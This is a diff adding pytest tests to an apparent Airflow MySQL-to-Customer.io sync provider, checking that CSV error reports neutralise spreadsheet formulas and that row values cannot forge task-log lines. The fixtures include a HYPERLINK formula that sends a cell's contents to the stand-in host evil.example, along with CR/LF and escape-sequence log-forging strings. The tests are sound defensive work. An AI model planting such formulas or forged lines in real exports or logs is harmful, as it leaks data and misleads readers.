@@ -6,7 +6,7 @@ from __future__ import annotations
 import os
 from pathlib import Path
 
-from sync_helpers import XCOM_FIELDS, MeasuredHook, run_job, sync_dag_fixture  # noqa: F401
+from sync_helpers import START, XCOM_FIELDS, MeasuredHook, next_logical_date, run_job, sync_dag_fixture  # noqa: F401
 
 SECRET = "s3cr3t-plan-value"
 
@@ -205,3 +205,82 @@ def test_requests_stay_under_500000_bytes_and_ops_under_32000(mysql_db, workspac
     assert len(hook.sent_sizes) == job.report.batches_sent
     assert "413" not in workspace.stats()["POST /api/v2/batch"]["requests"], "the workspace never refused a size"
     assert len(workspace.people()) == 3000
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+2", "-2+3", "@SUM(1+1)"]
+"""Emails someone typed into a sign-up form: each fails as an invalid email and lands in the report."""
+
+
+def test_the_csv_neutralises_formulas_a_row_carries(mysql_db, workspace, sync_dag) -> None:
+    mysql_db.execute("CREATE TABLE signups (n INT, email VARCHAR(200), plan VARCHAR(20))")
+    emails = [*FORMULAS, "\t=1+1", "ada@example.com", "ada@example.com"]
+    mysql_db.insert("signups", [{"n": n, "email": email, "plan": "free"} for n, email in enumerate(emails, 1)])
+
+    run = sync_dag(sql="SELECT email, plan FROM signups ORDER BY n", identify_by="email").run()
+
+    rows = [(int(r["row_number"]), r["identifier"], r["error_type"]) for r in run.csv_rows]
+    assert rows == [
+        *[(n, "'" + email, "invalid_email") for n, email in enumerate(FORMULAS, 1)],
+        (5, "'\t=1+1", "invalid_email"),
+        (7, "ada@example.com", "duplicate_identifier"),  # a cell that is no formula stays as it was
+    ]
+    cells = [cell for row in run.csv_rows for cell in row.values()]
+    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    assert workspace.person(email="ada@example.com") is not None
+
+
+def test_each_instance_of_a_mapped_sync_writes_its_own_error_report(mysql_db, workspace) -> None:
+    from airflow.sdk import DAG
+    from test_schedule import mapped_reports
+
+    from airflow_provider_cio.operators.reverse_etl import MySQLReverseETLOperator
+    from airflow_provider_cio.storage import safe_name
+    from airflow_provider_cio.testing.dagruns import run_dag
+
+    fill_users(mysql_db)
+    queries = ["SELECT id, email FROM users WHERE n <= 2", "SELECT id, email, plan FROM users WHERE n >= 3"]
+    with DAG("test_mapped_error_reports", schedule=None, start_date=START, catchup=False) as dag:
+        MySQLReverseETLOperator.partial(task_id="sync", activity_settle_seconds=0).expand(sql=queries)
+
+    outcome = run_dag(dag, next_logical_date())
+
+    first, second = mapped_reports(outcome, "sync")
+    assert (first["rows_failed"], second["rows_failed"]) == (1, 2)
+    run_folder = Path(os.environ["AIRFLOW_HOME"], "cio_error_reports", dag.dag_id, "sync", safe_name(outcome.run_id))
+    assert (first["error_report"], second["error_report"]) == (
+        f"file://{run_folder}/0.csv",
+        f"file://{run_folder}/1.csv",
+    )
+    assert (run_folder / "0.csv").read_text().splitlines()[1:] == [
+        "2,2,invalid_email,the email column is not a valid email address (RFC 5322)"
+    ]
+    assert [line.split(",")[:3] for line in (run_folder / "1.csv").read_text().splitlines()[1:]] == [
+        ["1", "3", "too_large"],
+        ["3", "", "missing_identifier"],
+    ]
+
+
+def test_a_row_cannot_forge_lines_of_the_task_log(mysql_db, workspace, sync_dag) -> None:
+    """Identifiers with control characters are refused before anything is sent, and the log states counts
+    only: a row value never reaches the task log, so it cannot add a line there."""
+    forged = "[2026-01-01 00:00:00] {base.py:1} INFO - people: 0 rows read, 0 failed"
+    mysql_db.execute("CREATE TABLE users (n INT, id VARCHAR(200), email VARCHAR(200))")
+    mysql_db.insert(
+        "users",
+        [
+            {"n": 1, "id": f"7\n{forged}", "email": "ada@example.com"},
+            {"n": 2, "id": "8", "email": f"grace@example.com\r\n{forged}"},
+            {"n": 3, "id": "9\x1b[2K\rforged", "email": None},
+        ],
+    )
+
+    run = sync_dag(sql="SELECT id, email FROM users ORDER BY n").run()
+
+    # read with universal newlines, as a spreadsheet does: a CR left unquoted would split row 3 in two
+    assert [(r["row_number"], r["error_type"]) for r in run.csv_rows] == [
+        ("1", "invalid_identifier"),
+        ("2", "invalid_email"),
+        ("3", "invalid_identifier"),
+    ]
+    assert "forged" not in run.log and "0 rows read, 0 failed" not in run.log
+    assert "people: 3 rows read, 0 sent, 3 failed, 0 suppressed in" in run.log
